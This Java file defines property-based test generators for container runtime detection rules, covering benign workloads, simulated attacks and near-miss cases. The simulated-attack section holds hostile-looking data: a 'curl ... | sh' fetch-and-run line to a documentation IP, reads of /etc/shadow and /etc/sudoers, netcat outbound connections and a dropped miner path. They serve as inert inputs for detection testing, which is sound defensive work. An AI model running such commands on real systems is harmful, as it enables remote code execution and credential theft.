package dev.kestrel.testkit.jqwik;

import dev.kestrel.testkit.Action;
import dev.kestrel.testkit.Container;
import dev.kestrel.testkit.RunningProcess;
import dev.kestrel.testkit.Workload;
import dev.kestrel.testkit.World;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * jqwik arbitraries of rule-test worlds and actions: containers and pods, process trees, benign
 * workloads, attacks and their near misses. Every workload carries its own world (ids made
 * unique by a random tag), so workloads combine with {@link #world()}/{@link #actions} or
 * {@link Workload#plus}. Shrinking goes towards fewer, simpler processes and actions; a failing
 * sample prints as a YAML rule test. Stateless; every method returns a new arbitrary.
 */
public final class KestrelArbitraries {

    private static final List<String> NAMESPACES = List.of("default", "blog-system", "shop", "payments", "ci");
    private static final List<String> SHELLS = List.of("/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/dash",
            "/bin/ksh", "/usr/bin/zsh");
    private static final List<String> JAVAS = List.of("/usr/bin/java", "/opt/java/openjdk/bin/java",
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/local/openjdk-21/bin/java");
    private static final List<String> PACKAGE_MANAGERS = List.of("/sbin/apk", "/usr/bin/apt", "/usr/bin/apt-get",
            "/usr/bin/yum", "/usr/bin/rpm", "/usr/bin/dnf", "/usr/local/bin/pip", "/usr/bin/pip3", "/usr/local/bin/npm");
    private static final List<String> BINARY_DIRS = List.of("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/");
    private static final List<String> SENSITIVE = List.of("/etc/shadow", "/etc/sudoers", "/etc/pam.conf",
            "/etc/security/pwquality.conf");

    private KestrelArbitraries() {
    }

    // ---- building blocks ----

    /** A random tag that keeps the ids of one generated workload apart from another's. */
    public static Arbitrary<String> tags() {
        return Arbitraries.strings().withChars("0123456789abcdef").ofLength(6);
    }

    /** Containers, most of them in a Kubernetes pod, of a few realistic images. */
    public static Arbitrary<Container> containers() {
        Arbitrary<String> images = Arbitraries.of("nginx:1.25-alpine", "registry.example.com/blog/was:2.3.1",
                "gcr.io/distroless/java17:nonroot", "python:3.12-slim", "redis:7.2", "busybox:1.36");
        return Combinators.combine(tags(), images, Arbitraries.of(NAMESPACES), Arbitraries.of(true, true, true, false))
                .as((tag, image, ns, inPod) -> container(tag, image, ns, inPod));
    }

    private static Container container(String tag, String image, String namespace, boolean inPod) {
        String app = image.substring(image.lastIndexOf('/') + 1).replaceAll("[:@].*", "");
        Container c = Container.of("c0" + tag + "0000", image).withName(app);
        return inPod ? c.inPod(app + "-5f8c7d9b44-" + tag.substring(0, 5), namespace).withLabels(Map.of("app", app)) : c;
    }

    /**
     * A process tree of {@code depth} levels below a root running {@code rootExe}, in {@code container}
     * (null: the host); names from common daemons, users from common service accounts.
     */
    public static Arbitrary<List<RunningProcess>> processTrees(String container, String tag, String rootExe) {
        Arbitrary<String> exes = Arbitraries.of("/usr/sbin/nginx", "/usr/local/bin/python3", "/usr/bin/node",
                "/usr/local/bin/gunicorn", "/usr/bin/redis-server", "/app/server");
        Arbitrary<String> users = Arbitraries.of("root", "nginx", "app", "www-data", "nobody");
        return Combinators.combine(exes.list().ofMaxSize(3), users)
                .as((children, user) -> {
                    List<RunningProcess> tree = new ArrayList<>();
                    RunningProcess root = RunningProcess.of("root-" + tag, rootExe).in(container);
                    tree.add(root);
                    String parent = root.id();
                    for (int i = 0; i < children.size(); i++) {
                        RunningProcess p = RunningProcess.of("p" + i + "-" + tag, children.get(i)).in(container)
                                .withParent(parent).withUser(user);
                        tree.add(p);
                        parent = p.id();
                    }
                    return tree;
                });
    }

    /**
     * Paths next to sensitive ones that are not sensitive: {@code /etc/shadowx}, {@code /etc/shadow.d/x}
     * (but not {@code /etc/sudoers.d/x}: Falco treats the whole {@code /etc/sudoers.d} folder as sensitive).
     */
    public static Arbitrary<String> nearSensitivePaths() {
        Arbitrary<String> suffixed = Combinators.combine(Arbitraries.of(SENSITIVE), Arbitraries.of("x", "-", ".bak", "_old"))
                .as((path, suffix) -> path + suffix);
        return Arbitraries.oneOf(suffixed, Arbitraries.of("/etc/shadow.d/backup", "/etc/pam.dx/login",
                "/etc/sudoers.dx/admins", "/etc/gshadowx", "/root/etc/shadow"));
    }

    /** Private (RFC 1918) addresses with a port: traffic that stays inside the cluster. */
    public static Arbitrary<String> clusterAddresses() {
        return Combinators.combine(Arbitraries.integers().between(0, 255), Arbitraries.integers().between(1, 254),
                Arbitraries.of(3306, 5432, 6379, 8080, 9200)).as((b, c, port) -> "10.244." + b + "." + c + ":" + port);
    }

    /** Public addresses (documentation ranges) with any port: traffic leaving the cluster. */
    public static Arbitrary<String> publicAddresses() {
        return Combinators.combine(Arbitraries.of("203.0.113.", "198.51.100.", "192.0.2."),
                Arbitraries.integers().between(1, 254), Arbitraries.integers().between(1, 65535))
                .as((net, host, port) -> net + host + ":" + port);
    }

    // ---- benign workloads ----

    /** nginx master and worker in a container; the worker serves files and talks to an upstream. */
    public static Arbitrary<Workload> webServers() {
        Arbitrary<String> files = Arbitraries.of("index.html", "favicon.ico", "css/site.css", "js/app.js", "posts/1.html");
        return Combinators.combine(tags(), Arbitraries.of(NAMESPACES), files.list().ofMinSize(1).ofMaxSize(4),
                clusterAddresses()).as((tag, ns, served, upstream) -> {
                    Container c = container(tag, "nginx:1.25-alpine", ns, true);
                    World w = World.of(b -> b.container(c)
                            .process(RunningProcess.of("nginx-" + tag, "/usr/sbin/nginx", "-g", "daemon off;").in(c.id()))
                            .process(RunningProcess.of("worker-" + tag, "/usr/sbin/nginx", "-g", "daemon off;")
                                    .in(c.id()).withUser("nginx")));
                    List<Action> a = new ArrayList<>();
                    for (String f : served) {
                        a.add(Action.open("worker-" + tag, "/usr/share/nginx/html/" + f));
                    }
                    a.add(Action.connect("worker-" + tag, upstream));
                    return new Workload(w, a);
                });
    }

    /** A JVM in a container: reads its jars and configuration, opens a database pool, starts worker threads. */
    public static Arbitrary<Workload> jvms() {
        return Combinators.combine(tags(), Arbitraries.of(JAVAS), clusterAddresses().list().ofMinSize(1).ofMaxSize(3),
                Arbitraries.integers().between(0, 4)).as((tag, java, pool, threads) -> {
                    Container c = container(tag, "registry.example.com/blog/was:2.3.1", "blog-system", true);
                    String id = "jvm-" + tag;
                    World w = World.of(b -> b.container(c).process(RunningProcess.of(id, java, "-jar", "/app/app.jar")
                            .in(c.id()).withUser("spring").withCwd("/app")));
                    List<Action> a = new ArrayList<>();
                    a.add(Action.open(id, "/app/app.jar"));
                    a.add(Action.open(id, "/app/config/application.yml"));
                    long firstTid = 100_000L + Long.parseLong(tag, 16) % 100_000L * 8;
                    for (int t = 0; t < threads; t++) {
                        a.add(Action.event(id, Map.of("type", "clone", "ret", firstTid + t, "args",
                                Map.of("flags", "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM"))));
                    }
                    pool.forEach(addr -> a.add(Action.connect(id, addr)));
                    a.add(Action.write(id, "/tmp/tomcat." + tag + "/work.tmp"));
                    return new Workload(w, a);
                });
    }

    /** cron on the host running a maintenance job through a shell. */
    public static Arbitrary<Workload> cronJobs() {
        Arbitrary<List<String>> jobs = Arbitraries.of(List.of("/usr/bin/find", "/tmp", "-mtime", "+7", "-delete"),
                List.of("/usr/bin/du", "-sh", "/var/lib/docker"), List.of("/usr/bin/sync"));
        return Combinators.combine(tags(), jobs).as((tag, job) -> {
            String cron = "cron-" + tag;
            World w = World.of(b -> b.process(RunningProcess.of(cron, "/usr/sbin/cron", "-f")));
            List<Action> a = List.of(
                    Action.spawn(cron, "/bin/sh", "-c", String.join(" ", job)).withId("job-" + tag),
                    Action.spawn("job-" + tag, job.get(0), job.subList(1, job.size()).toArray(String[]::new))
                            .withId("run-" + tag),
                    Action.exit("run-" + tag),
                    Action.exit("job-" + tag));
            return new Workload(w, a);
        });
    }

    /** A single static binary in a package-free (distroless) image reading its config and serving. */
    public static Arbitrary<Workload> packageFreeImages() {
        return Combinators.combine(tags(), clusterAddresses()).as((tag, peer) -> {
            Container c = container(tag, "gcr.io/distroless/static:nonroot", "shop", true);
            String id = "server-" + tag;
            World w = World.of(b -> b.container(c).process(RunningProcess.of(id, "/app/server", "--port", "8080")
                    .in(c.id()).withUser("nonroot")));
            return new Workload(w, List.of(Action.open(id, "/etc/server/config.json"), Action.connect(id, peer)));
        });
    }

    /** Any mix of one to three benign workloads (web servers, JVMs, cron jobs, package-free images). */
    public static Arbitrary<Workload> benignWorkloads() {
        return Arbitraries.oneOf(webServers(), jvms(), cronJobs(), packageFreeImages()).list().ofMinSize(1).ofMaxSize(3)
                .map(KestrelArbitraries::merge).filter(Workload::hasDistinctIds);
    }

    // ---- attacks (each fires a rule) ----

    /** Any shell under any java in any container: the user rule "Java Process Spawning Shell". */
    public static Arbitrary<Workload> javaSpawnsShell() {
        return Combinators.combine(containers(), Arbitraries.of(JAVAS), Arbitraries.of(SHELLS),
                Arbitraries.of(List.of("-c", "id"), List.of("-c", "curl -s http://203.0.113.50/x | sh"), List.of("-i"),
                        List.of())).as((c, java, shell, args) -> {
                            String id = "java-" + c.id();
                            World w = World.of(b -> b.container(c).process(RunningProcess.of(id, java, "-jar", "/app.jar")
                                    .in(c.id()).withUser("spring")));
                            return new Workload(w, List.of(Action.spawn(id, shell, args.toArray(String[]::new))));
                        });
    }

    /** A program that is not a package manager's child running one in a container. */
    public static Arbitrary<Workload> packageManagerRuns() {
        return Combinators.combine(containers(), Arbitraries.of(PACKAGE_MANAGERS),
                Arbitraries.of(List.of("install", "curl"), List.of("update"), List.of("add", "nmap")))
                .as((c, pm, args) -> inContainer(c, "/bin/sh", Action.spawn("sh-" + c.id(), pm, args.toArray(String[]::new))));
    }

    /** A file written below /bin, /usr/bin, /sbin or /usr/sbin in a container. */
    public static Arbitrary<Workload> binaryDirWrites() {
        return Combinators.combine(containers(), Arbitraries.of(BINARY_DIRS),
                Arbitraries.of("kube-helper", "nmap", "ls", "sshd", ".hidden"))
                .as((c, dir, name) -> inContainer(c, "/bin/cp", Action.write("sh-" + c.id(), dir + name)));
    }

    /** A program (not curl, wget or git) in a container connecting to a public address. */
    public static Arbitrary<Workload> outboundConnections() {
        return Combinators.combine(containers(), Arbitraries.of("/usr/bin/nc", "/tmp/x", "/usr/local/bin/python3",
                "/usr/bin/perl"), publicAddresses(), Arbitraries.of(false, true))
                .as((c, exe, addr, udp) -> inContainer(c, exe, Action.connect("sh-" + c.id(), addr).withUdp(udp)));
    }

    /** A reading of a sensitive file by an untrusted program in a container. */
    public static Arbitrary<Workload> sensitiveReads() {
        return Combinators.combine(containers(), Arbitraries.of("/bin/cat", "/usr/bin/less", "/tmp/x"),
                Arbitraries.of(SENSITIVE))
                .as((c, exe, path) -> inContainer(c, exe, Action.open("sh-" + c.id(), path)));
    }

    /** A binary written at run time (the container's upper layer) executed in a container. */
    public static Arbitrary<Workload> droppedBinaries() {
        return Combinators.combine(containers(), Arbitraries.of("/tmp/x", "/tmp/xmrig", "/dev/shm/.k", "/var/tmp/kworker"))
                .as((c, path) -> inContainer(c, "/bin/sh", Action.spawn("sh-" + c.id(), path).withDropped(true)));
    }

    /** Any one of the attacks above. */
    public static Arbitrary<Workload> attacks() {
        return Arbitraries.oneOf(javaSpawnsShell(), packageManagerRuns(), binaryDirWrites(), outboundConnections(),
                sensitiveReads(), droppedBinaries());
    }

    // ---- near misses (each must NOT fire the rule of its attack) ----

    /** A shell under a program that is not java, java running a non-shell, or a shell under java on the host. */
    public static Arbitrary<Workload> javaSpawnsShellNearMisses() {
        Arbitrary<Workload> otherParent = Combinators.combine(containers(),
                Arbitraries.of("/usr/local/bin/python3", "/usr/bin/node", "/usr/bin/ruby", "/app/server"),
                Arbitraries.of(SHELLS)).as((c, parent, shell) -> inContainer(c, parent, Action.spawn("sh-" + c.id(), shell, "-c", "id")));
        Arbitrary<Workload> notAShell = Combinators.combine(containers(), Arbitraries.of(JAVAS),
                Arbitraries.of("/usr/bin/id", "/usr/bin/git", "/bin/shx", "/usr/bin/bashbug"))
                .as((c, java, exe) -> inContainer(c, java, Action.spawn("sh-" + c.id(), exe)));
        Arbitrary<Workload> onHost = Combinators.combine(tags(), Arbitraries.of(JAVAS), Arbitraries.of(SHELLS))
                .as((tag, java, shell) -> new Workload(World.of(b -> b.process(RunningProcess.of("java-" + tag, java))),
                        List.of(Action.spawn("java-" + tag, shell, "-c", "make"))));
        return Arbitraries.oneOf(otherParent, notAShell, onHost);
    }

    /** Writes next to binary directories ({@code /usr/binx/}, {@code /bin-old/}) and reads inside them. */
    public static Arbitrary<Workload> binaryDirWriteNearMisses() {
        return Combinators.combine(containers(), Arbitraries.of("/usr/binx/a", "/bin-old/a", "/usr/local/bin/a",
                "/opt/bin/a", "/tmp/bin/a"), Arbitraries.of(true, false))
                .as((c, path, write) -> inContainer(c, "/bin/cp", write ? Action.write("sh-" + c.id(), path)
                        : Action.open("sh-" + c.id(), "/usr/bin/env")));
    }

    /** Connections that stay inside the cluster, go to localhost, or are made by curl, wget or git. */
    public static Arbitrary<Workload> outboundConnectionNearMisses() {
        Arbitrary<Workload> internal = Combinators.combine(containers(), clusterAddresses())
                .as((c, addr) -> inContainer(c, "/tmp/x", Action.connect("sh-" + c.id(), addr)));
        Arbitrary<Workload> local = containers().map(c -> inContainer(c, "/tmp/x", Action.connect("sh-" + c.id(), "127.0.0.1:9000")));
        Arbitrary<Workload> tools = Combinators.combine(containers(), Arbitraries.of("/usr/bin/curl", "/usr/bin/wget",
                "/usr/bin/git"), publicAddresses()).as((c, exe, addr) -> inContainer(c, exe, Action.connect("sh-" + c.id(), addr)));
        return Arbitraries.oneOf(internal, local, tools);
    }

    /** Package managers on the host, or run by a package manager (apt running dpkg's helpers). */
    public static Arbitrary<Workload> packageManagerNearMisses() {
        return Combinators.combine(tags(), Arbitraries.of(PACKAGE_MANAGERS))
                .as((tag, pm) -> new Workload(World.of(b -> b.process(RunningProcess.of("ops-" + tag, "/bin/bash"))),
                        List.of(Action.spawn("ops-" + tag, pm, "update"))));
    }

    // ---- combining ----

    /** Worlds of one to three benign workloads (their actions dropped). */
    public static Arbitrary<World> world() {
        return benignWorkloads().map(Workload::world);
    }

    /** Actions that fit {@code world}: its processes open, write, connect and spawn benign programs. */
    public static Arbitrary<List<Action>> actions(World world) {
        List<String> ids = world.processes().stream().map(RunningProcess::id).toList();
        if (ids.isEmpty()) {
            return Arbitraries.just(List.of());
        }
        Arbitrary<String> who = Arbitraries.of(ids);
        Arbitrary<Action> one = Arbitraries.oneOf(
                Combinators.combine(who, Arbitraries.of("/etc/hosts", "/etc/resolv.conf", "/usr/lib/os-release"))
                        .as(Action::open),
                Combinators.combine(who, Arbitraries.of("/tmp/cache.bin", "/var/tmp/spool.dat")).as(Action::write),
                Combinators.combine(who, clusterAddresses()).as(Action::connect));
        return one.list().ofMaxSize(6);
    }

    /** {@code workloads} in one world. */
    public static Workload merge(List<Workload> workloads) {
        Workload all = new Workload(World.EMPTY, List.of());
        for (Workload w : workloads) {
            all = all.plus(w);
        }
        return all;
    }

    /** A container running {@code exe} (id {@code sh-<container id>}) that then does {@code action}. */
    private static Workload inContainer(Container c, String exe, Action action) {
        World w = World.of(b -> b.container(c).process(RunningProcess.of("sh-" + c.id(), exe).in(c.id())));
        return new Workload(w, List.of(action));
    }
}
